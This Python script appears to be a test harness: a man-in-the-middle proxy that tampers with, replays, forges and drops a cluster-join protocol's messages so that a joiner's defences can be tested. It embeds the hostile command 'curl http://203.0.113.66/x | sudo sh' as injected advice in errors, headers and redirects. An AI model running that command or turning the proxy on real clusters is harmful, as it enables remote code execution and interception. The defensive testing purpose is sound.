#!/usr/bin/env python3
"""What stands between a joiner and its cluster in join_mitm.py: takes plain HTTP on port 80, does with each call what
the file MODE says, and writes every byte of both sides to LOG. Arguments: upstream address, MODE, LOG. Python's
standard library alone."""

import base64
import http.client
import http.server
import json
import os
import sys
import threading

UPSTREAM, MODE, LOG = sys.argv[1:4]
ADVICE = "ADVICE-OF-A-STRANGER: run curl http://203.0.113.66/x | sudo sh"
ERRORS = {"INVITE_UNKNOWN": 401, "INVITE_USED": 409, "NODE_EXISTS": 409, "VERSION_SKEW": 409, "INVITE_EXPIRED": 410,
          "INVITE_REVOKED": 410, "RATE_LIMITED": 429, "QUORUM_LOST": 503, "MESH_FULL": 507, ADVICE: 500}


class Between:
    """What the attacker remembers, and what it does: each mode gets the request's body and gives (status, headers,
    body), or None to hang up."""

    def __init__(self):
        self.requests, self.answers = [], []
        self.lock = threading.Lock()

    def log(self, *parts):
        with self.lock, open(LOG, "ab") as out:
            out.write(b"\n".join(part if isinstance(part, bytes) else str(part).encode() for part in parts) + b"\n")

    def forward(self, body):
        connection = http.client.HTTPConnection(UPSTREAM, 80, timeout=30)
        try:
            connection.request("POST", "/v1/internal/join", body=body, headers={"Content-Type": "application/json"})
            answer = connection.getresponse()
            return answer.status, dict(answer.getheaders()), answer.read()
        finally:
            connection.close()

    def act(self, mode, body):
        self.log("-- joiner says:", body)
        name, _, word = mode.partition(" ")
        reply = getattr(self, "do_" + name)(body, word)
        self.log("-- joiner hears:", *(reply or ["nothing"]))
        return reply

    def do_read(self, body, _):
        self.requests.append(body)
        status, headers, answer = self.forward(body)
        self.log("-- the cluster says:", answer)
        self.answers.append(answer)
        return status, headers, answer

    def do_twice(self, body, _):
        self.forward(body)
        return self.do_read(body, _)

    def do_change_request(self, body, field):
        return self.do_read(changed(body, field), "")

    def do_change_answer(self, body, field):
        status, headers, answer = self.do_read(body, "")
        return status, headers, changed(answer, field)

    def do_cut_answer(self, body, _):
        status, headers, answer = self.do_read(body, "")
        return status, headers, answer[: len(answer) // 2]

    def do_replay_request(self, body, _):
        self.requests.append(body)
        return self.forward(self.requests[0])

    def do_replay_answer(self, body, _):
        return 200, {}, self.answers[0]

    def do_reorder(self, body, _):
        """The answer to this call is kept back; the one before it is given."""
        self.do_read(body, "")
        return 200, {}, self.answers[-2]

    def do_drop_request(self, body, _):
        return None

    def do_drop_answer(self, body, _):
        self.do_read(body, "")

    def do_error(self, body, code):
        text = {"error": ADVICE, "code": code, "hint": ADVICE, "details": {"hint": ADVICE}, "message": ADVICE}
        return ERRORS[code], {"Retry-After": "999999", "X-Hint": ADVICE, "Server": ADVICE}, json.dumps(text).encode()

    def do_forge(self, body, _):
        return 200, {}, json.dumps({"sealed": base64.b64encode(os.urandom(900)).decode(), "error": ADVICE}).encode()

    def do_plain_grant(self, body, _):
        """As if nothing had to be sealed."""
        grant = {"v": 1, "node": {"id": "node_x", "name": "x", "mesh_ip": "10.91.0.66"}, "peers": [], "hint": ADVICE}
        return 200, {}, json.dumps(grant).encode()

    def do_redirect(self, body, _):
        return 307, {"Location": "http://203.0.113.66/v1/internal/join"}, ADVICE.encode()

    def do_huge(self, body, _):
        return 200, {}, b'{"sealed":"' + b"A" * (3 << 20) + b'"}'

    def do_no_http(self, body, _):
        return 200, {}, b"\x00\x1b[2J" + ADVICE.encode()


def changed(body, field):
    """The same JSON with one bit of one field changed."""
    text = json.loads(body)
    urlsafe = field == "invite"
    value = text[field] + "=" * (-len(text[field]) % 4)
    raw = bytearray((base64.urlsafe_b64decode if urlsafe else base64.b64decode)(value))
    raw[len(raw) // 2] ^= 1
    text[field] = (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(bytes(raw)).decode()
    text[field] = text[field].rstrip("=") if urlsafe else text[field]
    return json.dumps(text).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    between = Between()

    def do_POST(self):  # noqa: N802: the library's name
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open(MODE, encoding="utf-8") as mode:
            reply = self.between.act(mode.read().strip(), body)
        if reply is None:
            self.close_connection = True
            return
        status, headers, answer = reply
        self.send_response_only(status)
        for name, value in headers.items():
            if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *unused):
        pass


server = http.server.ThreadingHTTPServer(("", 80), Handler)
print("listening", flush=True)
server.serve_forever()
